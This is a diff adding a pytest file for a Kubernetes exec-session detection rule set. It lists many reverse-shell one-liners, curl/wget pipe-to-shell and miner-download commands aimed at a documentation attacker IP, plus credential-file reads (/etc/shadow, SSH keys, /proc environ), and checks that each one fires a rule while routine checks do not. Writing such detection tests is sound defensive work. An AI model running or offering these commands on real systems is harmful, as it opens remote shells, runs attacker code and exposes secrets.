@@ -1,0 +1,124 @@
+"""What an exec session runs: reverse shells, downloaded programs and credential files.
+
+The attacks are the one-liners of the usual reverse-shell cheat sheets and of Elastic's
+"Kubernetes Pod Exec Potential Reverse Shell" and "... with Curl or Wget to HTTPS" rules,
+sent as kubectl sends them (``kubectl exec p -- sh -c '...'``: one ``command=`` parameter
+per word). The benign neighbours are what engineers run in the same place: port checks,
+health checks, a download saved to a file.
+"""
+
+from __future__ import annotations
+
+import pytest
+from test_rules_helpers import exec_ev
+
+from detector.events.normalize import events_from_dicts
+from detector.rules import evaluate_rules, load_ruleset
+
+ATTACKER = "198.51.100.7"
+
+
+@pytest.fixture(scope="module")
+def ruleset():
+    return load_ruleset()
+
+
+def fired(ruleset, rule_id: str, command: list[str]) -> int:
+    frame = events_from_dicts([exec_ev(command)], cluster="test")
+    return evaluate_rules(frame, ruleset.only(rule_id)).findings.height
+
+
+def shell(line: str) -> list[str]:
+    return ["sh", "-c", line]
+
+
+REVERSE_SHELLS = [
+    shell(f"bash -i >& /dev/tcp/{ATTACKER}/4444 0>&1"),
+    ["bash", "-c", f"exec 5<>/dev/tcp/{ATTACKER}/443; cat <&5 | while read l; do $l; done"],
+    shell(f"0<&196;exec 196<>/dev/udp/{ATTACKER}/53; sh <&196 >&196 2>&196"),
+    shell(f"nc -e /bin/sh {ATTACKER} 4444"),
+    ["nc", ATTACKER, "4444", "-e", "/bin/bash"],
+    shell(f"ncat {ATTACKER} 4444 -c bash"),
+    shell(f"busybox nc {ATTACKER} 4444 -e sh"),
+    shell(f"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc {ATTACKER} 4444 >/tmp/f"),
+    shell(f"sh -i 2>&1 | nc {ATTACKER} 4444"),
+    shell(f"socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:{ATTACKER}:4444"),
+    shell(f"openssl s_client -quiet -connect {ATTACKER}:443 | /bin/sh"),
+    [
+        "python3",
+        "-c",
+        "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
+        f's.connect(("{ATTACKER}",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);'
+        'import pty; pty.spawn("sh")',
+    ],
+    [
+        "perl",
+        "-e",
+        f'use Socket;$i="{ATTACKER}";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
+        'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};',
+    ],
+    ["perl", "-MIO", "-e", f'$c=new IO::Socket::INET(PeerAddr,"{ATTACKER}:4444");'],
+    ["php", "-r", f'$sock=fsockopen("{ATTACKER}",4444);exec("/bin/sh -i <&3 >&3 2>&3");'],
+    ["ruby", "-rsocket", "-e", f'f=TCPSocket.open("{ATTACKER}",4444).to_i'],
+    shell(f"awk 'BEGIN {{s = \"/inet/tcp/0/{ATTACKER}/4444\"; while(1) {{ print |& s }} }}'"),
+    ["zsh", "-c", f"zmodload zsh/net/tcp && ztcp {ATTACKER} 4444 && zsh >&$REPLY 2>&$REPLY"],
+]
+
+DOWNLOADS = [
+    shell(f"curl -fsSL https://{ATTACKER}/x.sh | sh"),
+    shell(f"curl -s http://{ATTACKER}/x | bash -s -- --quiet"),
+    shell(f"wget -qO- https://{ATTACKER}/i.sh | /bin/bash"),
+    shell(f"curl https://{ATTACKER}/p.py | python3"),
+    shell(f"wget https://{ATTACKER}/xmrig -O /tmp/x && chmod +x /tmp/x && /tmp/x"),
+    shell(f"curl -o /tmp/k https://{ATTACKER}/k; chmod 755 /tmp/k; /tmp/k"),
+]
+
+ROUTINE = [
+    ["sh"],
+    ["bash", "-il"],
+    shell("echo > /dev/tcp/127.0.0.1/5432 && echo open"),
+    shell("timeout 1 bash -c '</dev/tcp/localhost/8080' && echo up"),
+    shell("nc -zv db.shop.svc.cluster.local 5432"),
+    shell("nc -w 2 -v redis 6379 </dev/null"),
+    shell("curl -s http://localhost:8080/healthz"),
+    shell("curl -sS https://api.github.com/zen | cat"),
+    shell("wget -qO- http://localhost:9090/metrics | grep http_requests"),
+    shell("curl -o /tmp/report.json https://example.com/report.json && ls -l /tmp"),
+    ["python3", "-c", "import socket; print(socket.gethostbyname('db'))"],
+    shell("ps aux | grep nginx"),
+    shell("cat /etc/environment"),
+    shell("ls -la ~/.ssh && cat ~/.ssh/known_hosts"),
+]
+
+
+@pytest.mark.parametrize("command", REVERSE_SHELLS + DOWNLOADS, ids=lambda c: c[-1][:40])
+def test_a_reverse_shell_or_a_fetched_program_fires(ruleset, command):
+    assert fired(ruleset, "exec-reverse-shell", command) == 1
+
+
+@pytest.mark.parametrize("command", ROUTINE, ids=lambda c: c[-1][:40])
+def test_port_checks_health_checks_and_saved_downloads_do_not(ruleset, command):
+    assert fired(ruleset, "exec-reverse-shell", command) == 0
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "cat /proc/1/environ",
+        "tr '\\0' '\\n' < /proc/self/environ",
+        "cat /proc/*/environ",
+        "cat /etc/shadow",
+        "cat /root/.ssh/id_rsa",
+        "cat ~/.ssh/id_ed25519",
+    ],
+)
+def test_environments_password_hashes_and_private_keys_are_credentials(ruleset, line):
+    """Secrets injected as environment variables are read from /proc (Elastic's
+    sensitive-path rule); password hashes and SSH keys beside them."""
+    assert fired(ruleset, "exec-credential-read", shell(line)) == 1
+
+
+def test_the_finding_shows_the_command(ruleset):
+    frame = events_from_dicts([exec_ev(shell(f"nc -e /bin/sh {ATTACKER} 4444"))], cluster="t")
+    (reasons,) = evaluate_rules(frame, ruleset.only("exec-reverse-shell")).findings["reasons"]
+    assert any(f"nc -e /bin/sh {ATTACKER} 4444" in r for r in reasons)
